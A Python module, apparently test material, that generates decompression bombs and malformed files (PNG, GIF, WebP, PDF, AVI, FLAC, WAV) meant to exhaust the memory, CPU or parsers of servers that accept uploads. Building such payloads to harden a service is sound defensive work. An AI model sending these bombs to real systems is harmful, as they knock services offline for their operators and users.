"""Small files that open into huge ones, and files that never end: what is sent to take a server down."""

import io
import struct
import zlib
from collections.abc import Callable, Iterator
from itertools import repeat

import av
import numpy as np
import pikepdf
from pikepdf import Array, Dictionary, Name, Object, Pdf, Stream
from PIL import Image

_MB = 1024 * 1024


def png(*chunks: tuple[bytes, bytes], size: tuple[int, int]) -> bytes:
    """A PNG of one byte a pixel that holds these chunks."""
    head = struct.pack(">IIBBBBB", *size, 8, 0, 0, 0, 0)
    parts = [(b"IHDR", head), *chunks, (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in parts
    )


def deflated(megabytes: int, *, times: int = 1) -> bytes:
    """So many megabytes of zeros, packed, and what came of it packed again."""
    packing = zlib.compressobj(9)
    made = b"".join([*(packing.compress(piece) for piece in repeat(bytes(_MB), megabytes)), packing.flush()])
    for _ in range(times - 1):
        made = zlib.compress(made, 9)
    return made


def _png_of_more_than_it_says() -> bytes:
    return png((b"IDAT", deflated(1500)), size=(4000, 4000))


def _png_of_the_largest_size() -> bytes:
    return png((b"IDAT", deflated(49)), size=(7000, 7000))


def _png_of_a_continent() -> bytes:
    return png((b"IDAT", deflated(10)), size=(2**31 - 1, 2**31 - 1))


def _png_with_notes_that_swell() -> bytes:
    return png((b"zTXt", b"note\0\0" + deflated(800)), (b"IDAT", zlib.compress(bytes(9 * 8))), size=(8, 8))


def _gif_without_end() -> bytes:
    one, out = Image.new("P", (3000, 3000)), io.BytesIO()
    one.save(out, "GIF", save_all=True, append_images=[Image.new("P", (3000, 3000), n % 2) for n in range(9)])
    frames = out.getvalue()
    return frames[:-1] * 90


def _webp_of_many_frames() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("L", (700, 700), n) for n in range(200)]
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], duration=20, method=0)
    return out.getvalue()


def _pdf(fill: Callable[[Pdf], Object | None]) -> bytes:
    pdf, out = Pdf.new(), io.BytesIO()
    page = pdf.add_blank_page()
    contents = fill(pdf)
    if contents is not None:
        page.obj.Contents = contents
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def _pdf_of_a_gigabyte() -> bytes:
    twice = Array([Name.FlateDecode, Name.FlateDecode])
    return _pdf(lambda pdf: Stream(pdf, deflated(1200, times=2), Filter=twice))


def _pdf_with_a_picture_of_a_gigabyte() -> bytes:
    def fill(pdf: Pdf) -> Object:
        form = Dictionary(Type=Name.XObject, Subtype=Name.Image, Filter=Name.FlateDecode, ColorSpace=Name.DeviceGray)
        form.Width, form.Height, form.BitsPerComponent = 33_000, 33_000, 8
        pdf.pages[0].obj.Resources = Dictionary(XObject=Dictionary(P=Stream(pdf, deflated(1038), form)))
        return Stream(pdf, b"q 200 0 0 200 0 0 cm /P Do Q")

    return _pdf(fill)


def _pdf_that_holds_itself() -> bytes:
    def fill(pdf: Pdf) -> Object:
        form = pdf.make_indirect(Stream(pdf, b"/F Do", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9]))
        form.Resources = Dictionary(XObject=Dictionary(F=form))
        pdf.pages[0].obj.Resources = form.Resources
        return Stream(pdf, b"/F Do")

    return _pdf(fill)


def _pdf_of_boxes_in_boxes() -> bytes:
    deep = b"[" * 200_000 + b"]" * 200_000
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/X " + deep + b">>endobj\ntrailer<</Root 1 0 R>>\n"


def _pdf_whose_pages_are_a_ring() -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Count 99999999/Kids[2 0 R 2 0 R]>>endobj\ntrailer<</Root 1 0 R>>\n"
    )


def _film_of_huge_pictures() -> bytes:
    out = io.BytesIO()
    with av.open(out, "w", format="avi") as target:
        stream = target.add_stream("mjpeg", rate=30)
        assert isinstance(stream, av.VideoStream)
        stream.width, stream.height, stream.pix_fmt = 8_000, 4_800, "yuvj420p"
        frame = av.VideoFrame(8_000, 4_800, "yuvj420p")
        for plane in frame.planes:
            plane.update(bytes(plane.buffer_size))
        [packet] = stream.encode(frame)
        whole = bytes(packet)
        for number in range(25):
            again = av.Packet(whole)
            again.stream, again.pts, again.dts, again.time_base = stream, number, number, stream.time_base
            target.mux(again)
    return out.getvalue()


def _silence(hours: float) -> Iterator[av.AudioFrame]:
    for _ in range(int(hours * 360)):
        frame = av.AudioFrame.from_ndarray(np.zeros((1, 80_000), np.int16), format="s16", layout="mono")
        frame.sample_rate = 8_000
        yield frame


def _sound_of_a_day() -> bytes:
    out = io.BytesIO()
    with av.open(out, "w", format="flac") as target:
        stream = target.add_stream("flac", rate=8_000, layout="mono")
        assert isinstance(stream, av.AudioStream)
        for frame in _silence(12):
            target.mux(stream.encode(frame))
        target.mux(stream.encode(None))
    return out.getvalue()


def _wav_that_says_it_is_endless() -> bytes:
    form = struct.pack("<HHIIHH", 1, 65_535, 2**31, 2**31, 65_535, 32)
    return b"RIFF" + b"\xff" * 4 + b"WAVEfmt " + struct.pack("<I", 16) + form + b"data" + b"\xff" * 4 + bytes(_MB)


BOMBS: dict[str, Callable[[], bytes]] = {
    make.__name__.strip("_").replace("_", " "): make
    for make in (
        _png_of_more_than_it_says,
        _png_of_the_largest_size,
        _png_of_a_continent,
        _png_with_notes_that_swell,
        _gif_without_end,
        _webp_of_many_frames,
        _pdf_of_a_gigabyte,
        _pdf_with_a_picture_of_a_gigabyte,
        _pdf_that_holds_itself,
        _pdf_of_boxes_in_boxes,
        _pdf_whose_pages_are_a_ring,
        _film_of_huge_pictures,
        _sound_of_a_day,
        _wav_that_says_it_is_endless,
    )
}
